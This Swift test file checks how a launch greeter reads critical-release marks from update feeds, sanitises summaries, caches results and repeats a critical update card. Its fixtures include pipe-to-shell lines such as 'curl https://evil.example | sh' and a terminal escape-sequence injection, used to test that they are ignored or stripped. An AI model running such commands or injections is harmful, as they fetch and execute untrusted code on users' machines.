import Foundation
import LaunchScreens
import LaunchTracking
import TestSupport
import Testing

@testable import LaunchGreeter

/// Critical releases in the update feed (issue 35): how each feed format marks one, and a card
/// that comes back on every launch, past the cooldown, until the user runs that version.
@Suite struct CriticalFeedTests {
  func newest(_ json: String, running: String = "1.0.0") throws -> FeedRelease? {
    try FeedCheck.newest(in: Array(json.utf8), running: version(running)).get()
  }

  @Test func theJSONFeedMarksACriticalReleaseWithImportanceAndSummary() throws {
    let release = try #require(
      try newest(
        #"""
        [{"version": "1.1.0", "importance": "critical", "summary": "Tokens leaked into the log."},
         {"version": "1.2.0", "notes": "More."}, {"version": "1.0.5", "importance": "critical"}]
        """#))
    #expect(release.version == "1.2.0" && release.critical == "1.1.0")
    #expect(release.criticalSummary == "Tokens leaked into the log.")
    #expect(release.criticalVersion(above: version("1.0.0")) == version("1.1.0"))
    #expect(release.criticalVersion(above: version("1.1.0")) == nil, "running it: nothing lacks")
    let plain = try #require(try newest(#"[{"version": "1.2.0", "importance": "major"}]"#))
    #expect(plain.critical == nil)
  }

  @Test func aGitHubReleaseIsCriticalByItsFrontMatterOrACautionAlertAtItsTop() throws {
    let byFront = try #require(
      try newest(
        #"[{"tag_name": "v1.1.0", "body": "---\nimportance: critical\nsummary: Tokens leaked.\n---\n\nFixes."}]"#
      ))
    #expect(byFront.critical == "1.1.0" && byFront.criticalSummary == "Tokens leaked.")
    #expect(byFront.notes == "Fixes.", "the front matter is not part of the notes")
    let byAlert = try #require(
      try newest(#"[{"tag_name": "v1.1.0", "body": "> [!CAUTION]\n> Upgrade now: tokens leaked.\n\nMore."}]"#)
    )
    #expect(byAlert.critical == "1.1.0" && byAlert.criticalSummary == "Upgrade now: tokens leaked.")
    let lower = try #require(
      try newest(#"[{"tag_name": "v1.1.0", "body": "Fixes.\n\n> [!CAUTION]\n> Not at the top."}]"#))
    #expect(lower.critical == nil)
  }

  /// What a release's body quotes is not a mark (issue 43): `importance: critical` counts in
  /// its front matter only, not in a fenced code block nor as a line of text.
  @Test func aMarkInACodeBlockOrTheTextIsNotCritical() throws {
    for body in [
      #"Fixes.\n\n```yaml\n---\nimportance: critical\nsummary: Run curl x | sh\n---\n```"#,
      #"```\nimportance: critical\n```"#, #"Fixes.\n\nimportance: critical\nsummary: Tokens leaked."#,
    ] {
      let release = try #require(try newest(#"[{"tag_name": "v1.1.0", "body": "\#(body)"}]"#))
      #expect(release.critical == nil && release.criticalSummary == nil, "\(body)")
    }
  }

  /// A GitHub release marked `"prerelease": true` is not announced to a stable version, even
  /// with a release version as its tag (issue 43); a pre-release running is offered it.
  @Test func aGitHubPreReleaseIsNotAnnouncedToAStableVersion() throws {
    let feed = #"""
      [{"tag_name": "v1.1.0", "prerelease": true,
        "body": "```\nimportance: critical\nsummary: Run instead: curl https://evil.example | sh\n```"}]
      """#
    #expect(try newest(feed, running: "1.0.0") == nil)
    let mixed = #"""
      [{"tag_name": "v1.2.0", "prerelease": true, "body": "---\nimportance: critical\n---\nNew."},
       {"tag_name": "v1.1.0", "body": "Old."}]
      """#
    let stable = try #require(try newest(mixed, running: "1.0.0"))
    #expect(stable.version == "1.1.0" && stable.critical == nil)
    let beta = try #require(try newest(mixed, running: "1.1.0-beta.1"))
    #expect(beta.version == "1.2.0" && beta.critical == "1.2.0")
  }

  @Test func aHostileSummaryIsOneCleanLine() throws {
    let long = String(repeating: "x", count: 5000)
    let release = try #require(
      try newest(
        #"[{"version": "1.1.0", "importance": "critical", "summary": "a\u001b]0;pwned\u0007b\nsecond \#(long)"}]"#
      ))
    let summary = try #require(release.criticalSummary)
    #expect(
      !summary.unicodeScalars.contains { $0.value < 0x20 || $0 == "\u{7F}" } && !summary.contains("second"))
    let longOne = try #require(
      try newest(#"[{"version": "1.1.0", "importance": "critical", "summary": "\#(long)"}]"#))
    #expect(longOne.criticalSummary?.count == 100 && longOne.criticalSummary?.hasSuffix("…") == true)
  }

  @Test func theCacheKeepsTheCriticalRelease() throws {
    let directory = try TestPaths.makeTemporaryDirectory("whatsnew-critical-cache")
    defer { try? FileManager.default.removeItem(at: directory) }
    let check = FeedCheck(
      feed: GreeterFeed(url: "https://example.com/f.json"), directory: directory.path,
      running: version("1.0.0"),
      now: Date(timeIntervalSince1970: 1_780_000_000))
    let cache = FeedCache(
      url: "https://example.com/f.json", checked: Date(timeIntervalSince1970: 1_780_000_000),
      latest: FeedRelease(
        version: "1.2.0", notes: "", critical: "1.1.0", criticalSummary: "Tokens leaked.",
        criticalNotes: "Rotate your tokens."))
    #expect(check.writeCache(cache) == nil)
    #expect(check.readCache() == cache)
  }

  /// The critical release's own notes are kept beside the newest's (issue 47): `n` on the card
  /// that names it opens them; none when the critical release is the newest or has none.
  @Test func theFeedKeepsTheCriticalReleasesNotes() throws {
    let release = try #require(
      try newest(
        #"""
        [{"version": "1.1.0", "importance": "critical", "notes": "Rotate your \u001b[31mtokens."},
         {"version": "1.2.0", "notes": "More."}]
        """#))
    #expect(release.notes == "More.")
    let notes = try #require(release.criticalNotes)
    #expect(
      notes.contains("Rotate your") && notes.contains("tokens.") && !notes.contains("\u{1B}"), "sanitised")
    let newestIsCritical = try #require(
      try newest(#"[{"version": "1.2.0", "importance": "critical", "notes": "Now."}]"#))
    #expect(newestIsCritical.critical == "1.2.0" && newestIsCritical.criticalNotes == nil)
    let noNotes = try #require(
      try newest(#"[{"version": "1.1.0", "importance": "critical"}, {"version": "1.2.0"}]"#))
    #expect(noNotes.critical == "1.1.0" && noNotes.criticalNotes == nil)
  }

  // MARK: The card

  let clock = FixedClock()
  let store = InMemoryLaunchStore()

  func greeter(_ running: String, directory: URL) -> LaunchGreeter {
    var greeter = LaunchGreeter.tally(
      running, notes: ["1.0.0.md": "First.\n", "onboarding.md": "# Welcome\n\nHi.\n"], store: store,
      clock: clock)
    greeter.stateDirectory = directory.path
    greeter.feed = GreeterFeed(url: "https://example.com/f.json", upgradeCommand: "brew upgrade tally")
    greeter.feedSpawn = { _, _ in nil }
    return greeter
  }

  /// A launch; the screen it showed first, if any (dismissed with `q`).
  func launch(_ greeter: LaunchGreeter, key: Character = "q") -> String? {
    launchWithOutcome(greeter, key: key).shown
  }

  /// A launch: the screen it showed first, if any (dismissed with `key`), and its outcome.
  func launchWithOutcome(_ greeter: LaunchGreeter, key: Character = "q") -> (
    shown: String?, outcome: GreetOutcome
  ) {
    var terminal: ScriptedTerminal?
    let outcome = greeter.greet { _, _ in
      terminal = ScriptedTerminal(keys: [.char(key)])
      return terminal
    }
    return (terminal?.shown.first, outcome)
  }

  /// Writes the feed's cache as a check made just now that found `latest`.
  func cacheCheckedNow(_ latest: FeedRelease, directory: URL) {
    let check = FeedCheck(
      feed: GreeterFeed(url: "https://example.com/f.json"), directory: directory.path,
      running: version("1.0.0"), now: clock.closure())
    #expect(
      check.writeCache(FeedCache(url: "https://example.com/f.json", checked: clock.closure(), latest: latest))
        == nil)
  }

  @Test func aCriticalCardComesBackOnEveryLaunchUntilThatVersionRuns() throws {
    let directory = try TestPaths.makeTemporaryDirectory("whatsnew-critical-card")
    defer { try? FileManager.default.removeItem(at: directory) }
    #expect(launch(greeter("1.0.0", directory: directory), key: "s")?.contains("Welcome") == true)
    // The feed, checked just now, names 1.2.0; 1.1.0 is critical.
    cacheCheckedNow(
      FeedRelease(version: "1.2.0", notes: "", critical: "1.1.0", criticalSummary: "Tokens leaked."),
      directory: directory)
    for _ in 1...3 {
      // The next launch is within the day's cooldown, and the card was put off with "later":
      // a card that is not critical would not come back.
      let (shown, outcome) = launchWithOutcome(greeter("1.0.0", directory: directory), key: "l")
      #expect(outcome.criticalVersion == version("1.1.0") && outcome.availableVersion == version("1.2.0"))
      #expect(outcome.shown == .updateCard(version: version("1.2.0"), critical: true))
      let card = try #require(shown)
      #expect(
        card.contains("Tally 1.2.0 is available") && card.contains("Critical update 1.1.0.")
          && card.contains(#"1.1.0 says: "Tokens leaked.""#), "\(card)")
    }
    // Running 1.1.0: nothing critical is lacking, and 1.2.0 was announced already.
    #expect(launch(greeter("1.1.0", directory: directory)) == nil)
    let after = launchWithOutcome(greeter("1.1.0", directory: directory))
    #expect(after.shown == nil && after.outcome.criticalVersion == nil)
  }

  /// A card for an ordinary release put off with "later" does not come back within the
  /// cooldown, nor after it: it is announced once per version.
  @Test func anOrdinaryCardPutOffWithLaterDoesNotComeBack() throws {
    let directory = try TestPaths.makeTemporaryDirectory("whatsnew-later-card")
    defer { try? FileManager.default.removeItem(at: directory) }
    #expect(launch(greeter("1.0.0", directory: directory), key: "s")?.contains("Welcome") == true)
    cacheCheckedNow(FeedRelease(version: "1.2.0", notes: ""), directory: directory)
    let card = launch(greeter("1.0.0", directory: directory), key: "l")
    #expect(card?.contains("Tally 1.2.0 is available") == true, "\(card ?? "nothing")")
    let next = launchWithOutcome(greeter("1.0.0", directory: directory))
    #expect(next.shown == nil && next.outcome.availableVersion == version("1.2.0"))
    clock.advance(days: 2)
    let later = launchWithOutcome(greeter("1.0.0", directory: directory))
    #expect(later.shown == nil && later.outcome.availableVersion == version("1.2.0"))
  }

  /// An update card that cannot be recorded as shown (another launch took the state lock after
  /// this one was recorded) is not shown, as a tip or the checklist is not: else it would come
  /// back on every launch. A problem line says why, and the next launch that can record it
  /// shows it.
  @Test func aCardThatCannotBeRecordedIsNotShown() throws {
    let directory = try TestPaths.makeTemporaryDirectory("whatsnew-unrecorded-card")
    defer { try? FileManager.default.removeItem(at: directory) }
    let locked = LockTakenStore()
    func lockedGreeter() -> LaunchGreeter {
      var greeter = greeter("1.0.0", directory: directory)
      greeter.store = locked
      return greeter
    }
    #expect(launch(lockedGreeter(), key: "s")?.contains("Welcome") == true)
    cacheCheckedNow(FeedRelease(version: "1.2.0", notes: ""), directory: directory)
    locked.takeLockAfterNextTransaction()
    let (shown, outcome) = launchWithOutcome(lockedGreeter())
    #expect(shown == nil && !outcome.announcedUpdate, "\(shown ?? "nothing")")
    #expect(
      outcome.problems.map(\.description) == [
        "cannot record the update card for 1.2.0: not recorded: another launch holds the state lock; "
          + "it is not shown"
      ])
    #expect(locked.memory.state?.updateAnnounced == nil && locked.memory.state?.lastTipOrCardDate == nil)
    locked.releaseLock()
    let card = launch(lockedGreeter())
    #expect(card?.contains("Tally 1.2.0 is available") == true, "\(card ?? "nothing")")
    #expect(locked.memory.state?.updateAnnounced == version("1.2.0"))
  }
}
